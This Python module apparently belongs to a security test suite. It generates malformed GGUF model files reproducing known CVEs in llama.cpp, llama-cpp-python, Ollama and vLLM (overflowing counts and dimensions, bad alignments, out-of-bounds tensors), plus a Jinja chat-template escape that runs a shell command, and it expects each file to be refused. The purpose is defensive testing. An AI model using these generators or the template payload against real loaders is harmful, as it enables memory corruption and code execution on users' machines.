"""Attacks on loaders of GGUF that are known by name, each as a file of its own.

Each function writes one file; its docstring says what it exploited elsewhere.
"""

from __future__ import annotations

import os
import struct
from collections.abc import Iterator
from pathlib import Path

from .. import gguf_builder as g
from ..gguf_builder import Array, Tensor
from .case import REFUSED, RUNS, USAGE, Case, Make
from .small import PIECES, replace_key, small, small_bytes

EXECUTED = "executed-by-a-template"  # the file that the template of CVE-2024-34359 would make


def cve_2024_21802(folder: Path) -> Path:
    """llama.cpp, ``info->ne``: a tensor of 4096 dimensions, read into an array of four."""
    builder = small()
    builder.tensors[1].dims = (1,) * 4096
    return builder.write(folder / "m.gguf")


def cve_2024_21825(folder: Path) -> Path:
    """llama.cpp, arrays of strings: count times 16 bytes wraps to a small allocation."""
    builder = small()
    replace_key(
        builder, "tokenizer.ggml.tokens", g.ARRAY, Array(g.STRING, PIECES, length=2**60 + 8)
    )
    return builder.write(folder / "m.gguf")


def cve_2024_21836(folder: Path) -> Path:
    """llama.cpp, ``header.n_tensors``: the count times the size of an entry wraps."""
    builder = small()
    builder.n_tensors = 2**64 // 8 + len(builder.tensors)
    return builder.write(folder / "m.gguf")


def cve_2024_23496(folder: Path) -> Path:
    """llama.cpp, ``gguf_fread_str``: a string of 2^64 - 1 bytes, and one more for its end is 0."""
    data = small_bytes()
    at = data.index(b"general.name") - 8
    path = folder / "m.gguf"
    path.write_bytes(data[:at] + struct.pack("<Q", 2**64 - 1) + data[at + 8 :])
    return path


def cve_2024_23605(folder: Path) -> Path:
    """llama.cpp, ``header.n_kv``: the count times the size of a key wraps."""
    builder = small()
    builder.n_keys = 2**64 // 16 + len(builder.keys)
    return builder.write(folder / "m.gguf")


def cve_2024_34359(folder: Path) -> Path:
    """llama-cpp-python: a chat template that reaches Python's functions and runs a command."""
    target = folder / EXECUTED
    source = (
        "{% for c in ().__class__.__base__.__subclasses__() %}{% if 'warning' in c.__name__ %}"
        "{{ c()._module.__builtins__['__import__']('os').system('touch " + str(target) + "') }}"
        "{% endif %}{% endfor %}"
    )
    builder = small(**{"tokenizer.chat_template": (g.STRING, source)})
    return builder.write(folder / "m.gguf")


def cve_2025_49847(folder: Path) -> Path:
    """llama.cpp, ``token_to_piece``: a token whose length does not fit 31 bits."""
    raw = b"".join(g.string(piece) for piece in PIECES[:-1]) + struct.pack("<Q", 2**31 + 8)
    array = Array(g.STRING, length=len(PIECES), raw=raw + b"y" * 64)
    builder = small()
    replace_key(builder, "tokenizer.ggml.tokens", g.ARRAY, array)
    path = builder.write(folder / "m.gguf")
    os.truncate(path, 2**32)  # so that the file would have room for it
    return path


def cve_2025_52566(folder: Path) -> Path:
    """llama.cpp, ``tokenize``: more tokens than there is room for, compared as signed numbers."""
    # One letter for a token, and a context of few.
    return small(**{"llama.context_length": (g.U32, 2)}).write(folder / "m.gguf")


def cve_2025_53630(folder: Path) -> Path:
    """llama.cpp, ``gguf_init_from_file_impl``: the padded sizes of all tensors together wrap."""
    builder = small()
    for i in range(4):
        builder.tensors.append(Tensor(f"t{i}", (2**60,), 0, offset=None))
    return builder.write(folder / "m.gguf")


def cve_2026_27940(folder: Path) -> Path:
    """llama.cpp, the same: the sizes do not wrap, but do with what the entries need themselves."""
    builder = small()
    builder.tensors.append(Tensor("t", (2**63 - 2**12, 2), 24, offset=None))  # I8
    return builder.write(folder / "m.gguf")


def cve_2026_33298(folder: Path) -> Path:
    """llama.cpp, ``ggml_nbytes``: dimensions whose product wraps to a tensor of a few MiB."""
    builder = small()
    builder.tensors[0].dims = (2**32, 2**32 + 2**10, 1, 1)
    builder.tensors[0].ggml_id = 2
    return builder.write(folder / "m.gguf")


def cve_2026_7482(folder: Path) -> Path:
    """Ollama: a tensor that goes on past the end of the file, so that memory behind it is read."""
    builder = small()
    last = builder.tensors[-1]
    last.dims = (2**20,)
    return builder.write(folder / "m.gguf")


def cve_2026_53923(folder: Path) -> Path:
    """vLLM: a dimension that is cut to 32 bits before the room for the result is made."""
    builder = small()
    builder.tensors[0].dims = (8, 2**32 + 8)
    return builder.write(folder / "m.gguf")


def block_count_out_of_range(folder: Path) -> Path:
    """A count of layers that per-layer arrays have no room for."""
    return small(**{"llama.block_count": (g.U32, 513)}).write(folder / "m.gguf")


def negative_byte_token(folder: Path) -> Path:
    """The byte token ``<0x-1>``, which is read as a negative index."""
    types = [2, 3, 3, 1, 1, 1, 1, 6]
    builder = small()
    replace_key(
        builder, "tokenizer.ggml.tokens", g.ARRAY, Array(g.STRING, [*PIECES[:-1], "<0x-1>"])
    )
    replace_key(builder, "tokenizer.ggml.token_type", g.ARRAY, Array(g.I32, types))
    return builder.write(folder / "m.gguf")


def confused_element_type(folder: Path) -> Path:
    """Scores as an array of bytes, four times as few as a reader of floats takes."""
    builder = small()
    replace_key(builder, "tokenizer.ggml.scores", g.ARRAY, Array(g.U8, [0] * len(PIECES)))
    return builder.write(folder / "m.gguf")


def alignment_of_zero(folder: Path) -> Path:
    """An alignment of 0, by which offsets are divided."""
    return small(**{"general.alignment": (g.U32, 0)}).write(folder / "m.gguf")


def alignment_of_48(folder: Path) -> Path:
    """An alignment that is no power of two, so that rounding by masks goes astray."""
    return small(**{"general.alignment": (g.U32, 48)}).write(folder / "m.gguf")


def negative_tensor_type(folder: Path) -> Path:
    """llama.cpp, a format's number that is negative as an index of the table of formats."""
    builder = small()
    builder.tensors[2].ggml_id = 2**32 - 1
    return builder.write(folder / "m.gguf")


ATTACKS: dict[str, tuple[Make, str]] = {
    "CVE-2024-21802": (cve_2024_21802, REFUSED),
    "CVE-2024-21825": (cve_2024_21825, REFUSED),
    "CVE-2024-21836": (cve_2024_21836, REFUSED),
    "CVE-2024-23496": (cve_2024_23496, REFUSED),
    "CVE-2024-23605": (cve_2024_23605, REFUSED),
    "CVE-2024-34359": (cve_2024_34359, RUNS),  # generate has no use for it; a chat refuses it
    "CVE-2025-49847": (cve_2025_49847, REFUSED),
    "CVE-2025-52566": (cve_2025_52566, USAGE),  # a prompt that does not fit
    "CVE-2025-53630": (cve_2025_53630, REFUSED),
    "CVE-2026-27940": (cve_2026_27940, REFUSED),
    "CVE-2026-33298": (cve_2026_33298, REFUSED),
    "CVE-2026-53923": (cve_2026_53923, REFUSED),
    "CVE-2026-7482": (cve_2026_7482, REFUSED),
    "block_count out of range": (block_count_out_of_range, REFUSED),
    "negative byte token": (negative_byte_token, REFUSED),
    "element type confusion": (confused_element_type, REFUSED),
    "alignment zero": (alignment_of_zero, REFUSED),
    "alignment not a power of two": (alignment_of_48, REFUSED),
    "negative tensor type": (negative_tensor_type, REFUSED),
}


def cases() -> Iterator[Case]:
    """All files of this family."""
    for name, (make, expect) in ATTACKS.items():
        prompt = "x" * 100 if expect == USAGE else "x"
        inspect = RUNS if expect == USAGE else ""
        yield Case("attacks", name, expect, make, inspect, prompt=prompt)
